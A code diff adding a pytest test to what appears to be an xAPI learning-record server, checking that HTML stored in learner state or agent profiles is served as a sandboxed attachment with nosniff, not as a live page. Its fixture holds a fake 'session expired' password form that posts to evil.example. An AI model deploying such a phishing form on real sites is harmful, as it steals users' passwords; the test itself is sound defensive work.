@@ -45,6 +45,24 @@ def test_any_content_type_is_kept_as_bytes(xapi, learner):
     assert response["Content-Type"] == "application/octet-stream"
 
 
+@pytest.mark.parametrize("resource", ["state", "agent_profile"])
+def test_a_stored_html_document_is_never_a_page_on_the_hubs_origin(xapi, learner, resource):
+    """A learner's credential could store HTML and have a cross-site form fetch it (``?method=GET``)."""
+    page = b"<form action='https://evil.example/'>Your session expired: password <input name=p></form>"
+    key, address = ("stateId", where(learner)) if resource == "state" else ("profileId", {"agent": learner.agent})
+    store = getattr(xapi, resource)
+    assert store(learner, "PUT", body=page, content_type="text/html", **{key: "page"}, **address).status_code == 204
+    response = store(learner, "GET", **{key: "page"}, **address)
+    assert response.content == page  # kept as sent
+    assert response["Content-Disposition"] == "attachment"
+    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    store(learner, "PUT", body=b'{"a": 1}', content_type="application/json", **{key: "json"}, **address)
+    json_response = store(learner, "GET", **{key: "json"}, **address)
+    assert json_response.json() == {"a": 1} and "Content-Disposition" not in json_response
+    assert json_response["Content-Security-Policy"] == "sandbox; default-src 'none'"
+
+
 def test_post_merges_top_level_properties_of_json_objects(xapi, learner):
     xapi.state(learner, "PUT", body=b'{"x": "foo", "y": "bar"}', stateId="vars", **where(learner))
     assert (
